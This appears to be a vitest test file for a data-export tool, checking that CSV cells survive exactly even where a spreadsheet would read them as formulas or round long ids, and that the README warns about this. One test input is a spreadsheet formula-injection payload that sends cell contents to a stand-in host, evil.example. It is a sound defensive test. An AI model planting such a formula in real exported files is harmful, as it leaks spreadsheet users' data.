// CSV files are exact; what a spreadsheet would do to them is said beside them.
import { readFileSync } from "node:fs"
import { join } from "node:path"
import { parse } from "csv-parse/sync"
import { beforeAll, expect, it } from "vitest"
import type { Workplace } from "../support/workplace.ts"
import { collected, tamper } from "./hostile.ts"

/** What a spreadsheet takes for a formula, or for a number with fifteen digits. */
const texts = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-1+1", "@SUM(1;1)", "7183000000000000123", "NA"]

let place: Workplace
beforeAll(async () => {
  place = await collected()
})

it("a cell of a CSV file is what was sent, also where a spreadsheet would take it for a formula or a number", async () => {
  const literals = texts.map((text) => `'${text.replaceAll("'", "''")}'`).join(", ")
  await tamper(
    place.database,
    `UPDATE main.videos SET video_description = ([${literals}])[1 + (rowid % ${texts.length})::INTEGER]`
  )
  expect((await place.windrow(["export", "study.yaml", "--format", "csv"])).code).toBe(0)
  const csv = readFileSync(join(place.directory, "data/study-csv/videos.csv"), "utf8")
  const rows = parse(csv, { columns: true }) as ReadonlyArray<Readonly<Record<string, string>>>
  expect(new Set(rows.map((row) => row["video_description"]))).toEqual(new Set(texts))
  for (const { id } of rows) expect(id).toMatch(/^\d{19}$/)
})

it("the README of an export says so, and how to come by a file in which cells are texts", async () => {
  const readmeOf = async (format: string) => {
    expect((await place.windrow(["export", "study.yaml", "--format", format])).code).toBe(0)
    return readFileSync(join(place.directory, `data/study-${format}/README.md`), "utf8")
  }
  const csv = await readmeOf("csv")
  expect(csv).toMatch(/\*\*Ids are rounded\*\* to 15 digits/)
  expect(csv).toMatch(/begins with `=`, `\+`, `-` or `@` may be run as a formula/)
  expect(csv).toContain('writexl::write_xlsx(read_csv("videos.csv"')
  expect(csv).toContain('pd.ExcelWriter("videos.xlsx"')
  expect(await readmeOf("parquet")).not.toContain("spreadsheet")
})
